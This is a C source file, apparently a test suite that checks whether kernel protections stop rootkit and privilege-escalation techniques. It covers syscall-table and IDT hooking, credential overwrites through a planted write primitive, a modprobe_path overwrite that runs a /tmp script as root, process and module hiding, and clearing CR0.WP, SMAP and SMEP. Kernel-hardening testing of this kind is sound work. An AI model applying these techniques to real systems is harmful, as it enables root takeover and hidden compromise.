// SPDX-License-Identifier: MIT
/* Attacks on the kernel: the module (or its hole) writes, and what user space then sees is the proof. */
#include "attack.h"

#define USER_ID 1000
#define SECRET "/tmp/only-root"

static long victim(void)
{
    return CALL(__NR_ustat, 0, 0);
}

static enum outcome magic(struct line *line, const char *what, long value)
{
    put(line, what);
    put(line, " returned ");
    if (value < 0)
        put_number(line, value);
    else
        put_hex(line, value);
    return value == ATTACK_MAGIC ? SUCCESS : BLOCKED;
}

/* The module calls what it hijacked. */
static enum outcome answered(struct line *line, const char *name, const unsigned long *argument, const char *what)
{
    unsigned long answer = 0;
    long error = strike(name, argument, &answer);
    enum outcome outcome = error ? judge(line, error) : magic(line, what, answer);

    undo(name);
    return outcome;
}

/* The victim system call is the proof, whatever the module thinks. */
static enum outcome called(struct line *line, const char *name)
{
    long error = strike(name, 0, 0), value = victim();
    enum outcome outcome = error && value != ATTACK_MAGIC ? judge(line, error) : magic(line, "ustat", value);

    undo(name);
    return outcome;
}

static enum outcome syscall_table(struct line *line)
{
    return answered(line, "syscall-table", 0, "the table's entry of ustat");
}

static enum outcome syscall_dispatch(struct line *line)
{
    return called(line, "syscall-dispatch");
}

static enum outcome kernel_text(struct line *line)
{
    return called(line, "kernel-text");
}

static enum outcome idt_gate(struct line *line)
{
    return answered(line, "idt-gate", 0, "int 0xd7");
}

static enum outcome idt_base(struct line *line)
{
    return answered(line, "idt-base", 0, "int 0xd7");
}

static enum outcome gdt(struct line *line)
{
    unsigned long selector = 0;
    long error = strike("gdt", 0, &selector);
    enum outcome outcome = SUCCESS;
    unsigned int rights = 0;
    bool seen;

    asm volatile("lar %[selector], %[rights]" : [rights] "+r"(rights), "=@ccz"(seen) : [selector] "r"((unsigned int)selector));
    if (seen) {
        put(line, "lar finds a descriptor at selector ");
        put_hex(line, selector);
    } else if (error) {
        outcome = judge(line, error);
    } else {
        put(line, "lar finds no descriptor");
        outcome = BLOCKED;
    }
    undo("gdt");
    return outcome;
}

/* Runs as an ordinary user; its exit status is 0 once it is root, which opening a file of root's proves. */
static int become_root(void (*how)(void))
{
    CALL(__NR_setresgid, USER_ID, USER_ID, USER_ID);
    CALL(__NR_setresuid, USER_ID, USER_ID, USER_ID);
    if (CALL(__NR_getuid) != USER_ID || CALL(__NR_open, SECRET, O_RDONLY) >= 0)
        return 2;
    how();
    if (CALL(__NR_getuid) != 0 || CALL(__NR_geteuid) != 0)
        return 1;
    return CALL(__NR_open, SECRET, O_RDONLY) >= 0 ? 0 : 1;
}

static enum outcome raised(struct line *line, void (*how)(void))
{
    long child, status;

    write_file(SECRET, "secret", 0600);
    child = CALL(__NR_fork);
    if (child == 0)
        CALL(__NR_exit_group, become_root(how));
    status = wait_for(child);
    CALL(__NR_unlink, SECRET);
    switch (status) {
    case 0:
        put(line, "uid 1000 became uid 0 and opened a file of root's");
        return SUCCESS;
    case 1 << 8:
        put(line, "uid 1000 stayed what it was");
        return BLOCKED;
    default:
        put(line, "the user's process ended with status ");
        put_hex(line, status);
        return status & 0x7f ? BLOCKED : FAILED;
    }
}

static const char *blow;

static void by_blow(void)
{
    unsigned long pid = CALL(__NR_getpid);

    strike(blow, &pid, 0);
}

static enum outcome raised_by(struct line *line, const char *name)
{
    enum outcome outcome;

    blow = name;
    outcome = raised(line, by_blow);
    undo(name);
    return outcome;
}

static enum outcome credentials(struct line *line)
{
    return raised_by(line, "credentials");
}

static enum outcome credentials_swap(struct line *line)
{
    return raised_by(line, "credentials-swap");
}

/* What an exploit has: one open file and a write to an address of its choice. */
static long open_hole(void)
{
    return CALL(__NR_open, "/proc/attack", O_RDWR);
}

static unsigned long ask(long hole, const char *command)
{
    unsigned long answer = 0;

    CALL(__NR_write, hole, command, length_of(command));
    CALL(__NR_read, hole, &answer, sizeof(answer));
    return answer;
}

static long poke(long hole, unsigned long address, unsigned long value)
{
    struct line command = {};
    long result;

    put(&command, "at ");
    put_hex(&command, address);
    result = CALL(__NR_write, hole, command.text, command.length);
    if (result < 0)
        return result;
    command.length = 0;
    put(&command, "poke ");
    put_hex(&command, value);
    result = CALL(__NR_write, hole, command.text, command.length);
    return result < 0 ? result : 0;
}

static void by_poking(void)
{
    long hole = open_hole();
    unsigned long ids = ask(hole, "leak");

    /* uid and gid, suid and sgid, euid and egid, fsuid and fsgid */
    for (int pair = 0; pair < 4; pair++)
        poke(hole, ids + 8 * pair, 0);
    CALL(__NR_close, hole);
}

static enum outcome credentials_poke(struct line *line)
{
    return raised(line, by_poking);
}

#define HELPER "/tmp/x"
#define OWNED "/tmp/owned"
#define TRIGGER "/tmp/trigger"

/* As an ordinary user: point modprobe_path to our script, and run a file of a format that no one knows. */
static int call_helper(void)
{
    long hole = open_hole(), child, error;
    unsigned long path;

    CALL(__NR_setresgid, USER_ID, USER_ID, USER_ID);
    CALL(__NR_setresuid, USER_ID, USER_ID, USER_ID);
    path = ask(hole, "symbol modprobe_path");
    if (!path)
        return 2;
    error = poke(hole, path, 0x782f706d742fUL); /* "/tmp/x" */
    child = CALL(__NR_fork);
    if (child == 0) {
        const char *arguments[] = { TRIGGER, 0 };

        CALL(__NR_execve, TRIGGER, arguments, &arguments[1]);
        CALL(__NR_exit_group, 0);
    }
    wait_for(child);
    if (!error && !keep)
        poke(hole, path, 0x6f6d2f6e6962732fUL); /* "/sbin/mo", the beginning of "/sbin/modprobe" */
    return 0;
}

static enum outcome modprobe_path(struct line *line)
{
    char text[64];
    long child;

    CALL(__NR_unlink, OWNED);
    write_file(HELPER, "#!/bin/sh\nid -u >" OWNED "\n", 0755);
    write_file(TRIGGER, "\xff\xff\xff\xff", 0755);
    child = CALL(__NR_fork);
    if (child == 0)
        CALL(__NR_exit_group, call_helper());
    if (wait_for(child) == 2 << 8) {
        put(line, "no symbol modprobe_path");
        return FAILED;
    }
    if (read_all(OWNED, text, sizeof(text)) > 0 && starts_with(text, "0\n")) {
        put(line, "the kernel ran " HELPER " as uid 0");
        return SUCCESS;
    }
    put(line, "the kernel did not run " HELPER);
    return BLOCKED;
}

static enum outcome hidden_process(struct line *line)
{
    volatile unsigned long *counter = (void *)syscall6(
        __NR_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    long child = CALL(__NR_fork), error;
    struct line name = {};
    unsigned long before;
    bool listed_before, listed, runs = false;
    enum outcome outcome;

    if (child == 0)
        for (;;) {
            ++*counter;
            CALL(__NR_sched_yield);
        }
    put_number(&name, child);
    name.text[name.length] = 0;
    listed_before = directory_has("/proc", name.text);
    error = strike("hidden-process", (unsigned long *)&child, 0);
    listed = directory_has("/proc", name.text);
    before = *counter;
    for (int turn = 0; turn < 1000 && !runs; turn++) {
        CALL(__NR_sched_yield);
        runs = *counter != before;
    }
    put(line, "pid ");
    put_number(line, child);
    put(line, listed ? " is listed in /proc" : " is not listed in /proc");
    put(line, runs ? " and runs" : " and does not run");
    if (error) {
        put(line, "; ");
        outcome = judge(line, error);
    } else {
        outcome = listed_before && !listed && runs ? SUCCESS : BLOCKED;
    }
    if (keep)
        return outcome;
    undo("hidden-process");
    CALL(__NR_kill, child, 9);
    wait_for(child);
    return outcome;
}

static enum outcome hidden_module(struct line *line)
{
    bool before = file_has_line_starting("/proc/modules", "attack "), listed;
    long error = strike("hidden-module", 0, 0);
    enum outcome outcome;

    listed = file_has_line_starting("/proc/modules", "attack ");
    put(line, listed ? "/proc/modules lists the module" : "/proc/modules does not list the module, and it answers");
    if (error) {
        put(line, "; ");
        outcome = judge(line, error);
    } else {
        outcome = before && !listed ? SUCCESS : BLOCKED;
    }
    undo("hidden-module");
    return outcome;
}

static enum outcome cr0_wp(struct line *line)
{
    return answered(line, "cr0-wp", 0, "read-only data");
}

static enum outcome cr4_smap(struct line *line)
{
    volatile unsigned long value = ATTACK_MAGIC;
    unsigned long address = (unsigned long)&value;

    return answered(line, "cr4-smap", &address, "user memory, read by the kernel,");
}

__attribute__((noinline)) static unsigned long user_function(void)
{
    return ATTACK_MAGIC;
}

static enum outcome cr4_smep(struct line *line)
{
    unsigned long address = (unsigned long)user_function;

    /* Present before the kernel needs it. */
    ((unsigned long (*volatile)(void))address)();
    return answered(line, "cr4-smep", &address, "a user function, called by the kernel,");
}

static enum outcome lstar(struct line *line)
{
    return answered(line, "lstar", 0, "syscall");
}

static enum outcome sysenter(struct line *line)
{
    return answered(line, "sysenter", 0, "sysenter");
}

const struct attack kernel_attacks[] = {
    { "syscall-table", syscall_table, "an entry of sys_call_table leads to the module" },
    { "syscall-dispatch", syscall_dispatch, "a branch of x64_sys_call leads to the module" },
    { "kernel-text", kernel_text, "the first bytes of a kernel function are replaced" },
    { "idt-gate", idt_gate, "a gate of the IDT leads to the module" },
    { "idt-base", idt_base, "IDTR points to a table of the module's" },
    { "gdt", gdt, "a descriptor is added to the GDT" },
    { "credentials", credentials, "the module makes a process root" },
    { "credentials-swap", credentials_swap, "the module gives a process the credentials of the first one" },
    { "credentials-poke", credentials_poke, "a user makes itself root through a write primitive" },
    { "modprobe-path", modprobe_path, "a user points modprobe_path to its script through a write primitive" },
    { "hidden-process", hidden_process, "a process leaves the task list" },
    { "hidden-module", hidden_module, "the module leaves the module list" },
    { "cr0-wp", cr0_wp, "CR0.WP is cleared and read-only data written" },
    { "cr4-smap", cr4_smap, "CR4.SMAP is cleared and user memory read by the kernel" },
    { "cr4-smep", cr4_smep, "CR4.SMEP is cleared and user memory executed by the kernel" },
    { "lstar", lstar, "SYSCALL enters the kernel at the module" },
    { "sysenter", sysenter, "SYSENTER enters the kernel at the module" },
    {},
};
